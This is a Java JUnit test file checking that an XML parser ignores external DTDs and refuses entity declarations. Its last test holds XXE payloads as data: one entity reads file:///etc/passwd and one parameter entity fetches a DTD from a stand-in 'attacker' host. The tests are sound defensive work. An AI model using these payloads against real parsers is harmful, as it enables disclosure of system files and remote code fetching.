package io.kubelift.analyzer.parse;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A DOCTYPE is read as the normal thing it is; nothing it declares or points at is ever acted on.
 */
class XmlTreeTest {
    @TempDir Path dir;

    @Test
    void jettyStyleDoctypeWithAnExternalDtdParses() throws Exception {
        XmlTree.Element root =
                XmlTree.parse(
                        """
                <?xml version="1.0"?>
                <!DOCTYPE Configure PUBLIC "-//Jetty//Configure//EN" "https://www.eclipse.org/jetty/configure_9_3.dtd">
                <Configure id="Server" class="org.eclipse.jetty.server.Server">
                  <Set name="port"><Property name="jetty.http.port" deprecated="jetty.port" default="8080"/></Set>
                </Configure>
                """);
        assertEquals("Configure", root.localName());
        assertEquals("8080", root.all("Property").get(0).attributes.get("default"));
    }

    @Test
    void theExternalDtdIsNeverRead() throws Exception {
        // if this DTD were read, its attribute default would appear on <r>, and its broken tail
        // would fail the parse
        Path dtd = dir.resolve("evil.dtd");
        Files.writeString(dtd, "<!ATTLIST r injected CDATA \"from-the-dtd\"> <!broken");
        XmlTree.Element root =
                XmlTree.parse(
                        "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \""
                                + dtd.toUri()
                                + "\"><r a=\"1\"/>");
        assertFalse(root.attributes.containsKey("injected"));
    }

    @Test
    void undeclaredEntityReferencesOfAnUnreadDtdAreSkippedNotFatal() throws Exception {
        XmlTree.Element root =
                XmlTree.parse(
                        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">"
                                + "<html><body>a&nbsp;b</body></html>");
        assertEquals("html", root.localName());
    }

    @Test
    void entityDeclarationsAreRefusedWithTheirLine() {
        var internal =
                assertThrows(
                        XmlTree.XmlException.class,
                        () ->
                                XmlTree.parse(
                                        "<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n<!ENTITY x \"y\">\n]><r>&x;</r>"));
        assertTrue(
                internal.getMessage().contains("entity declared in the DOCTYPE is refused"),
                internal.getMessage());
        assertEquals(3, internal.line);
        var external =
                assertThrows(
                        XmlTree.XmlException.class,
                        () ->
                                XmlTree.parse(
                                        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"));
        assertTrue(external.getMessage().contains("DOCTYPE"), external.getMessage());
        var parameter =
                assertThrows(
                        XmlTree.XmlException.class,
                        () ->
                                XmlTree.parse(
                                        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker/x.dtd\"> %p;]><r/>"));
        assertTrue(parameter.getMessage().contains("DOCTYPE"), parameter.getMessage());
    }
}
